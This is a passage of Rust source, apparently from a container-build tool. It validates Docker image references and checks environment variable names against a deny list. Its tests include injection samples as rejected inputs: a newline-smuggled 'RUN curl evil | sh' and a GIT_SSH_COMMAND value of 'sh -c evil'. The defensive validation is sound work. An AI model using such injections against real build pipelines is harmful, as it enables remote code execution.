        assert!(matches!(rules.check_env_vars(&function), Err(OutputProblem::BadEnvName { .. })));
        for name in "API_URL JAVA_HOME LDAP_URL PYTHONUNBUFFERED NODE_ENV LUA_VERSION PS3 HOME".split(' ') {
            assert!(check(name).is_ok(), "{name}");
        }
    }

    #[test]
    fn embedders_extend_the_env_deny_list() {
        let mut rules = OutputRules::default();
        rules.denied_env_vars.insert("GIT_SSH_COMMAND".to_string());
        let vars = [("GIT_SSH_COMMAND".to_string(), "sh -c evil".to_string())];
        assert!(matches!(rules.check_env_vars(&vars), Err(OutputProblem::DeniedEnvName { .. })));
        assert!(OutputRules::default().check_env_vars(&vars).is_ok());
    }
}

/// Longest image name (registry and path, without tag and digest) that
/// distribution/reference accepts.
const MAX_IMAGE_NAME_BYTES: usize = 255;

/// Checks a base image against the image-reference grammar of
/// distribution/reference, `[REGISTRY[:PORT]/]PATH[:TAG][@DIGEST]` (which
/// `scratch` matches). The host writes it after `FROM` on the first line of
/// every Dockerfile it renders, so anything outside that grammar, a line
/// break above all, could add instructions no plugin was allowed to add.
pub fn check_image_reference(reference: &str) -> Result<(), String> {
    match image_reference_problem(reference) {
        None => Ok(()),
        Some(problem) => Err(format!(
            "`{}` is not an image reference: {problem}; write [REGISTRY[:PORT]/]NAME[:TAG][@DIGEST], \
             e.g. `python:3.11`, `registry.example.com:5000/team/app:1.2` or `app@sha256:<64 hex digits>`",
            crate::sanitize::for_terminal(reference, 80)
        )),
    }
}

fn image_reference_problem(reference: &str) -> Option<String> {
    if reference.is_empty() {
        return Some("it is empty".to_string());
    }
    if let Some(bad) = reference.chars().find(|c| !c.is_ascii_graphic()) {
        return Some(format!(
            "it contains {bad:?}; only ASCII letters, digits and `.`, `_`, `-`, `/`, `:`, `@` are allowed"
        ));
    }
    let (rest, digest) = match reference.split_once('@') {
        Some((rest, digest)) => (rest, Some(digest)),
        None => (reference, None),
    };
    if digest.is_some_and(|digest| !is_digest(digest)) {
        return Some("the digest after `@` must be ALGORITHM:HEX with at least 32 hex digits".to_string());
    }
    // A colon followed by a `/` belongs to a registry port, not a tag.
    let (name, tag) = match rest.rfind(':') {
        Some(colon) if !rest[colon..].contains('/') => (&rest[..colon], Some(&rest[colon + 1..])),
        _ => (rest, None),
    };
    if tag.is_some_and(|tag| !is_tag(tag)) {
        return Some(
            "the tag after `:` must be 1-128 letters, digits, `_`, `.` and `-`, not starting with `.` or `-`"
                .to_string(),
        );
    }
    if name.len() > MAX_IMAGE_NAME_BYTES {
        return Some(format!("the name is {} bytes long; the limit is {MAX_IMAGE_NAME_BYTES}", name.len()));
    }
    let mut components: Vec<&str> = name.split('/').collect();
    if components.len() > 1 && is_registry(components[0]) {
        components.remove(0);
    }
    components.into_iter().find(|component| !is_path_component(component)).map(|component| {
        format!(
            "the name component `{component}` must be lowercase letters and digits, joined by single `.`, `_` or `__` \
             or by dashes (a registry needs a `.` or `:PORT` or a bracketed IPv6 address)"
        )
    })
}

/// `[a-z0-9]+` runs joined by `.`, `_`, `__` or one or more `-`.
fn is_path_component(component: &str) -> bool {
    let bytes = component.as_bytes();
    let alphanumeric = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    let mut at = 0;
    loop {
        let run = at;
        while at < bytes.len() && alphanumeric(bytes[at]) {
            at += 1;
        }
        if at == run {
            return false;
        }
        if at == bytes.len() {
            return true;
        }
        let separator = at;
        while at < bytes.len() && !alphanumeric(bytes[at]) {
            at += 1;
        }
        let separator = &component[separator..at];
        if !matches!(separator, "." | "_" | "__") && !separator.bytes().all(|b| b == b'-') {
            return false;
        }
    }
}

/// A host name, IPv4 address or bracketed IPv6 address, with an optional `:PORT`.
fn is_registry(domain: &str) -> bool {
    let (host_ok, after_host) = match domain.strip_prefix('[') {
        Some(bracketed) => match bracketed.split_once(']') {
            Some((address, after)) => {
                (!address.is_empty() && address.bytes().all(|b| b.is_ascii_hexdigit() || b == b':'), after)
            }
            None => return false,
        },
        None => {
            let end = domain.find(':').unwrap_or(domain.len());
            let label_ok = |label: &str| {
                !label.is_empty()
                    && !label.starts_with('-')
                    && !label.ends_with('-')
                    && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            };
            (domain[..end].split('.').all(label_ok), &domain[end..])
        }
    };
    let port_ok = |port: &str| !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit());
    host_ok && (after_host.is_empty() || after_host.strip_prefix(':').is_some_and(port_ok))
}

fn is_tag(tag: &str) -> bool {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    (1..=128).contains(&tag.len())
        && tag.bytes().next().is_some_and(word)
        && tag.bytes().all(|b| word(b) || b == b'.' || b == b'-')
}

fn is_digest(digest: &str) -> bool {
    let Some((algorithm, hex)) = digest.split_once(':') else {
        return false;
    };
    hex.len() >= 32
        && hex.bytes().all(|b| b.is_ascii_hexdigit())
        && algorithm.split(['-', '_', '+', '.']).all(|part| {
            part.starts_with(|c: char| c.is_ascii_alphabetic()) && part.bytes().all(|b| b.is_ascii_alphanumeric())
        })
}

#[cfg(test)]
mod image_reference_tests {
    use super::check_image_reference;

    #[test]
    fn image_references_follow_the_distribution_grammar() {
        let digest = format!("sha256:{}", "a".repeat(64));
        for good in [
            "scratch".to_string(),
            "python".into(),
            "python:3.11".into(),
            "jupyter/minimal-notebook:2026-11".into(),
            "library/ubuntu:22.04".into(),
            "registry.example.com:5000/team/app:1.2".into(),
            "localhost:5000/app".into(),
            "Registry.Example.com/app".into(),
            "[::1]:5000/app:latest".into(),
            "192.168.0.1/app".into(),
            "a__b/c_d/e.f/g---h:TAG_1.x-y".into(),
            format!("app@{digest}"),
            format!("app:1.0@{digest}"),
            format!("app:{}", "t".repeat(128)),
        ] {
            assert_eq!(check_image_reference(&good), Ok(()), "{good}");
        }
        for (bad, expected) in [
            ("", "empty"),
            ("python:3.11\nRUN curl evil | sh", "'\\n'"),
            ("python 3", "' '"),
            ("pythön", "'ö'"),
            ("Python", "`Python`"),
            ("a/B", "`B`"),
            ("a..b", "`a..b`"),
            ("a___b", "`a___b`"),
            ("-a", "`-a`"),
            ("a-", "`a-`"),
            ("a//b", "``"),
            ("app/", "``"),
            ("a_b:5000/app", "`a_b:5000`"),
            ("app:", "tag"),
            ("app:.x", "tag"),
            ("app:-x", "tag"),
            ("app:a:b", "`app:a`"),
            ("app@sha256:abc", "digest"),
            ("app@sha256", "digest"),
            ("app@1sha:0123456789abcdef0123456789abcdef", "digest"),
            ("$BASE", "`$BASE`"),
        ] {
            let error = check_image_reference(bad).expect_err(bad);
            assert!(error.contains(expected) && error.contains("e.g. `python:3.11`"), "{bad:?}: {error}");
            assert!(!error.contains('\n'), "{error}");
        }
        assert!(check_image_reference(&format!("app:{}", "t".repeat(129))).is_err());
        assert!(check_image_reference(&"a".repeat(256)).unwrap_err().contains("limit is 255"));
    }
}
